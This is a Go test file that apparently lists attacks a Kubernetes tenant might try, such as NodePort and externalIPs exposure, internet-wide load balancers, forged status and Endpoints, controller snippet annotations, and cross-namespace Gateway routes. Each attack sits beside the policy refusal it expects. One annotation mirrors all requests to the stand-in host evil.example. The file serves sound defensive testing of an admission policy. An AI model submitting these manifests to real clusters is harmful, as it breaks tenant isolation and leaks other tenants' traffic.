package attack

import (
	"context"
	"errors"
	"fmt"
	"slices"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
)

// service is a Service with this spec, YAML in flow style.
func service(spec string, metadata ...string) string {
	return fmt.Sprintf("{apiVersion: v1, kind: Service, metadata: {name: NAME%s}, spec: {%s}}", more(metadata...), spec)
}

// ownService is what tenants may have.
var ownService = service("selector: {app: web}, ports: [{port: 443}]")

// exposes is an attack by a Service with this spec.
func exposes(name, spec string, parts ...string) Attack {
	return Attack{Name: name, Object: service(spec), From: ownService, By: []refusal{policy("exposure", parts...)}}
}

const (
	balanced = "type: LoadBalancer, selector: {app: web}, ports: [{port: 443}]"
	toWeb    = "http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: web, port: {number: 443}}}}]}"
	toAcme   = "tls: [{hosts: [acme.example], secretName: tls}], rules: [{host: acme.example, " + toWeb + "}]"
	taken    = "{status: {loadBalancer: {ingress: [{ip: 192.0.2.10}]}}}"
)

func ingress(spec string, metadata ...string) string {
	return fmt.Sprintf("{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {name: NAME%s}, spec: {%s}}", more(metadata...), spec)
}

var ownIngress = ingress(toAcme)

func gateway(kind, spec string) string {
	return fmt.Sprintf("{apiVersion: gateway.networking.k8s.io/v1, kind: %s, metadata: {name: NAME}, spec: {%s}}", kind, spec)
}

const (
	listener = "name: web, hostname: acme.example, port: 443, protocol: HTTPS, tls: {certificateRefs: [{name: tls}]}"
	toVictim = "rules: [{backendRefs: [{name: records, namespace: VICTIM, port: 443}]}]"
)

var (
	ownGateway = gateway("Gateway", "gatewayClassName: edge, listeners: [{"+listener+"}]")
	ownRoute   = gateway("HTTPRoute", "rules: [{backendRefs: [{name: web, port: 443}]}]")
)

func routes(name, object, from string, parts ...string) Attack {
	return Attack{Name: name, Object: object, From: from, By: []refusal{policy("exposure", parts...)}}
}

// annotated is an attack by an Ingress with this annotation, lawful otherwise.
func annotated(name, annotation string, parts ...string) Attack {
	return routes("Ingress with "+name, ingress(toAcme, "annotations: {"+annotation+"}"), ownIngress, parts...)
}

var exposure = Group{Name: "service-exposure", Least: 9, Attacks: []Attack{
	exposes("external IP", "selector: {app: web}, ports: [{port: 443}], externalIPs: [192.0.2.10]", "spec.externalIPs"),
	exposes("port on every node", "type: NodePort, selector: {app: web}, ports: [{port: 443}]", "type NodePort is not one of ClusterIP, LoadBalancer"),
	exposes("name of another tenant's Service", "type: ExternalName, externalName: records.VICTIM.svc.cluster.local", "type ExternalName is not one of"),
	exposes("load balancer for the internet", balanced+", loadBalancerSourceRanges: [0.0.0.0/0]", "loadBalancerSourceRanges 0.0.0.0/0 is not inside 2001:db8:12::/48,203.0.113.0/24"),
	exposes("load balancer for the internet, IPv6", balanced+", loadBalancerSourceRanges: ['::/0']", "::/0 is not inside"),
	exposes("load balancer for one stranger too many", balanced+", loadBalancerSourceRanges: [203.0.113.0/28, 198.51.100.7/32]", "198.51.100.7/32 is not inside"),
	{Name: "load balancer for the internet by annotation", Object: service(balanced, "annotations: {service.beta.kubernetes.io/load-balancer-source-ranges: 0.0.0.0/0}"), From: ownService,
		By: []refusal{policy("exposure", "annotations of a Service do not say who may reach it")}},
	{Name: "load balancer with a firewall of its own", Object: service(balanced, "annotations: {service.beta.kubernetes.io/aws-load-balancer-security-groups: sg-1}"), From: ownService,
		By: []refusal{policy("exposure", "annotations of a Service do not say who may reach it")}},
	{Name: "load balancer that says not who may come", Object: service(balanced), By: []refusal{harmless(keepsToAllowlist)}},
	{Name: "load balancer that hides the client", Object: service(balanced + ", externalTrafficPolicy: Cluster"), By: []refusal{harmless(keepsToAllowlist)}},
	{Name: "address of others in the status", Given: []string{service(balanced)}, On: "{apiVersion: v1, kind: Service, metadata: {name: NAME}}", Send: "PATCH /api/v1/namespaces/NAMESPACE/services/NAME/status", Body: taken,
		By: []refusal{policy("exposure", "status.loadBalancer of Service", "is written by the load balancer of the cluster")}},
	{Name: "address of others in the status of an Ingress", Given: []string{ownIngress}, Send: "PATCH /apis/networking.k8s.io/v1/namespaces/NAMESPACE/ingresses/NAME/status", Body: taken,
		By: []refusal{policy("exposure", "status.loadBalancer of Ingress")}},
	{Name: "endpoints of another tenant's pod", Given: []string{service("ports: [{port: 443}]")}, Object: "{apiVersion: v1, kind: Endpoints, metadata: {name: NAME}, subsets: [{addresses: [{ip: 10.128.0.9}], ports: [{port: 443}]}]}",
		By: []refusal{policy("exposure", "Endpoints", "is written by the controllers of the cluster")}},
	{Name: "endpoint slice of another tenant's pod", Object: "{apiVersion: discovery.k8s.io/v1, kind: EndpointSlice, metadata: {name: NAME, labels: {kubernetes.io/service-name: standing}}, addressType: IPv4, endpoints: [{addresses: [10.128.0.9]}], ports: [{port: 443}]}",
		By: []refusal{policy("exposure", "EndpointSlice", "is written by the controllers of the cluster")}},
	{Name: "address of another tenant's pod in one's own", On: standing, Patch: "{status: {podIP: 10.128.0.9, podIPs: [{ip: 10.128.0.9}]}}", Without: []string{"update, dry", "JSON patch", "merge patch", "strategic", "server-side", "update through r", "patch through r", "update through e", "patch through e"},
		By: []refusal{policy("exposure", "are reported by its kubelet"), harmless(withoutEffect)}},
	routes("Ingress in clear text", ingress("rules: [{host: acme.example, "+toWeb+"}]"), ownIngress, "needs spec.tls"),
	routes("Ingress with one host in clear text", ingress("tls: [{hosts: [acme.example], secretName: tls}], rules: [{host: acme.example, "+toWeb+"}, {host: open.example, "+toWeb+"}]"), ownIngress, "host open.example is not among the hosts of spec.tls"),
	routes("Ingress to something else than a Service", ingress("tls: [{hosts: [acme.example], secretName: tls}], rules: [{host: acme.example, http: {paths: [{path: /, pathType: Prefix, backend: {resource: {apiGroup: storage.example, kind: Bucket, name: of-others}}}]}}]"), "", "backend.resource may lead anywhere"),
	routes("Ingress for every host name", ingress("tls: [{hosts: [acme.example], secretName: tls}], rules: [{"+toWeb+"}]"), ownIngress, "a rule without host", "other tenants' too"),
	routes("Ingress that takes what nobody else claims", ingress(toAcme+", defaultBackend: {service: {name: web, port: {number: 443}}}"), ownIngress, "spec.defaultBackend", "other tenants' too"),
	annotated("configuration for everybody", "nginx.ingress.kubernetes.io/server-snippet: 'location / {}'", "is configuration of an Ingress controller that other tenants share"),
	annotated("more configuration for everybody", "nginx.org/server-snippets: 'location / {}'", "is configuration of an Ingress controller"),
	annotated("configuration of HAProxy for everybody", "haproxy-ingress.github.io/config-backend: acl x", "is configuration of an Ingress controller"),
	annotated("copies of all requests", "nginx.ingress.kubernetes.io/mirror-target: 'https://evil.example/$request_uri'", "sends requests elsewhere"),
	annotated("another tenant's host name", "nginx.ingress.kubernetes.io/server-alias: records.birch.example", "claims host names that no rule of the Ingress names"),
	annotated("clear text beside TLS", "nginx.ingress.kubernetes.io/ssl-redirect: 'false'", "serves clear text beside TLS"),
	annotated("a listener for clear text", "alb.ingress.kubernetes.io/listen-ports: '[{\"HTTP\": 80}]'", "serves clear text beside TLS"),
	routes("Gateway in clear text", gateway("Gateway", "gatewayClassName: edge, listeners: [{name: web, port: 80, protocol: HTTP}]"), ownGateway, "accepts clear text"),
	routes("Gateway for routes of everybody", gateway("Gateway", "gatewayClassName: edge, listeners: [{"+listener+", allowedRoutes: {namespaces: {from: All}}}]"), ownGateway, "routes or listeners of other tenants may attach"),
	routes("Gateway for routes by a label others can take", gateway("Gateway", "gatewayClassName: edge, listeners: [{"+listener+", allowedRoutes: {namespaces: {from: Selector, selector: {matchLabels: {team: acme}}}}}]"), ownGateway, "routes or listeners of other tenants may attach"),
	routes("route to another tenant's Service", gateway("HTTPRoute", toVictim), ownRoute, "the route leads to Service birch-clinic/records"),
	routes("route that mirrors to another tenant", gateway("HTTPRoute", "rules: [{backendRefs: [{name: web, port: 443}], filters: [{type: RequestMirror, requestMirror: {backendRef: {name: records, namespace: VICTIM, port: 443}}}]}]"), ownRoute, "the route leads to Service birch-clinic/records"),
	routes("gRPC route to another tenant's Service", gateway("GRPCRoute", toVictim), "", "the route leads to Service birch-clinic/records"),
	routes("TLS route to another tenant's Service", gateway("TLSRoute", toVictim), "", "the route leads to Service birch-clinic/records"),
	routes("TCP route to another tenant's Service", "{apiVersion: gateway.networking.k8s.io/v1alpha2, kind: TCPRoute, metadata: {name: NAME}, spec: {"+toVictim+"}}", "", "the route leads to Service birch-clinic/records"),
	routes("grant to everybody's routes", "{apiVersion: gateway.networking.k8s.io/v1beta1, kind: ReferenceGrant, metadata: {name: NAME}, spec: {from: [{group: gateway.networking.k8s.io, kind: HTTPRoute, namespace: '*'}], to: [{group: '', kind: Service}]}}", "", "the ReferenceGrant lets in objects of namespace *"),
	routes("grant to another tenant's routes", "{apiVersion: gateway.networking.k8s.io/v1beta1, kind: ReferenceGrant, metadata: {name: NAME}, spec: {from: [{group: gateway.networking.k8s.io, kind: HTTPRoute, namespace: VICTIM}], to: [{group: '', kind: Secret}]}}", "", "lets in objects of namespace birch-clinic"),
}}

// keepsToAllowlist: the load balancer takes the allowlist's clients alone, and sees who they are.
func keepsToAllowlist(_ context.Context, t *trial) error {
	if t.after == nil {
		return errors.New("the Service is not there")
	}
	ranges, _, _ := unstructured.NestedStringSlice(t.after.Object, "spec", "loadBalancerSourceRanges")
	traffic, _, _ := unstructured.NestedString(t.after.Object, "spec", "externalTrafficPolicy")
	if !slices.Equal(ranges, []string{"2001:db8:12::/48", "203.0.113.0/24"}) || traffic != "Local" {
		return fmt.Errorf("ranges %v, externalTrafficPolicy %s", ranges, traffic)
	}
	return nil
}
